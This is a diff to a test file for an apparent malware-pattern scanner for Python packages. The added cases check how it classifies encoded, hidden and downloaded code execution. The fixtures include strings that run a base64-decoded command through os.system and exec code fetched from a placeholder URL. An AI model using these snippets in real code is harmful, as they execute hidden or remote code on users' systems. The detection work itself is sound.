@@ -63,7 +63,21 @@ LATENT = {
 
 @pytest.mark.parametrize(("source", "rule"), LATENT.values(), ids=LATENT.keys())
 def test_what_is_only_defined_is_found_as_latent(source: str, rule: str) -> None:
-    assert {f"latent-{rule}"} == rules(source)
+    assert {f"latent-{rule}"} == rules(source) - {"latent-hidden-execution"}
+
+
+def test_a_command_that_stands_encoded_in_the_source_is_told_from_decoded_data() -> None:
+    hidden = f"import base64, os\ndef f():\n    os.system(base64.b64decode('{PRINTED}').decode())"
+    handed = "import base64, os\ndef f(image):\n    os.startfile(base64.b64decode(image))"
+    assert {"latent-decoded-execution", "latent-hidden-execution"} == rules(hidden)
+    assert {"latent-decoded-execution"} == rules(handed)
+
+
+def test_documentation_beside_the_package_is_not_run_by_an_import() -> None:
+    source = "from urllib.request import urlopen\nexec(urlopen('https://example.invalid/conf').read())"
+    assert {"latent-download-execution"} == rules(source, "pkg-1.0/doc/conf.py")
+    assert "import-download-execution" in rules(source, "pkg-1.0/pkg/conf.py")
+    assert "import-download-execution" in rules(source, "pkg-1.0/pkg/docs/conf.py")
 
 
 def test_what_runs_by_itself_is_not_latent_as_well() -> None:
@@ -90,6 +104,9 @@ QUIET = {
     "    requests.post('https://example.invalid/', headers={'S': hmac.new(private_key, body).hexdigest()})",
     "length of a key": "import requests\n"
     "def f(private_key):\n    requests.post('https://example.invalid/', json={'bits': len(private_key)})",
+    "connection to one's own host name": "import socket\n"
+    "def f():\n    socket.create_connection((socket.gethostname(), 80))",
+    "message queue": "def f(connection):\n    exec(connection.recv())",
     "checksum by exclusive or": "def f(data):\n    return bytes(b ^ 0x5A for b in data)",
 }
 
